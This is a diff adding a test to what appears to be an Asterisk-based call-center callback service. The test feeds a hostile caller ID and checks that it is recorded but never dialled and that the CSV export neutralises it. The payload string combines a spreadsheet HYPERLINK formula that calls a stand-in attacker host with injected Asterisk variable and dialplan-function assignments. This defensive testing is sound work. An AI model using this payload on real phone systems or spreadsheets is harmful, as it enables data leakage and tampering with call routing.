@@ -222,3 +222,35 @@ async def test_the_callback_list_needs_a_login_and_the_right_role_to_act(
             "/api/callbacks/99/close", json={"result": "closed"}, headers=headers
         )
         assert reply.status_code == 404
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?leak","Click me"),CALLASSIST_CALLBACK_FOR=1111.1,'
+    "__TRUNK=x,DB(owned/by-caller)=1"
+)
+
+
+async def test_a_dropped_call_from_a_hostile_caller_id_is_recorded_but_never_dialled(
+    database_url: str, pbx: AmiServer, traffic: Traffic
+) -> None:
+    # A caller sets their own caller ID: to Asterisk, commas split an Originate's Variable
+    # values and a name ending in ")" writes a dialplan function; to Excel, "=" is a formula.
+    async with running_service(database_url, pbx) as service:
+        await pbx.wait_logged_in()
+        dropped = await traffic.place(
+            "dropped_network_cause", customer=(HOSTILE, "Mallory"), agents=["PJSIP/1001"]
+        )
+        queued = await until(lambda: callback_with(service, "queued"), 15, "a queued callback")
+        (call,) = [c for c in await service.calls() if c["call_id"] == dropped]
+        token = await service.login("qa")
+        csv = await service.client.get(
+            "/api/calls.csv", headers={"Authorization": f"Bearer {token}"}
+        )
+        await asyncio.sleep(1.0)  # the desk's next rounds: still nothing dialled
+
+    assert (call["outcome"], call["customer"]) == ("dropped", HOSTILE), "the raw caller ID is kept"
+    assert queued["call_id"] == dropped and queued["auto"] is False
+    assert queued["waiting_for"].startswith("the caller's number cannot be dialled")
+    assert not any("HYPERLINK" in str(action) for action in pbx.actions)
+    assert originates(pbx) == []
+    assert "'=HYPERLINK(" in csv.text and ',"=HYPERLINK(' not in csv.text
